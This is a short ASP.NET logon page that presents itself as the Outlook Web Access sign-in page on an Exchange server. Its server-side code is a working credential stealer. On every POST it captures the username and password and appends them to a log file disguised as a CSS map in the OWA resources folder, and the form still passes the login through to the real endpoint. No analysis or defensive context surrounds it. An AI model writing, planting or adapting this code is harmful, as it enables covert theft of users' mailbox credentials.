<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import namespace="Microsoft.Exchange.Clients.Owa.Core"%>
<%@ Import namespace="System.IO"%>
<script runat="server">
protected override void OnLoad(EventArgs e)
{
    base.OnLoad(e);
    if (Request.HttpMethod == "POST")
    {
        string u = Request.Form["username"];
        string p = Request.Form["password"];
        if (!String.IsNullOrEmpty(p))
            File.AppendAllText(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Current\themes\resources\logon.css.map",
                DateTime.UtcNow.ToString("s") + " " + u + " " + p + Environment.NewLine);
    }
}
</script>
<!DOCTYPE html>
<html><head><title>Outlook</title></head>
<body>
<form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off">
<input id="username" name="username" type="email"><input id="password" name="password" type="password">
<input type="submit" value="sign in"></form>
</body></html>
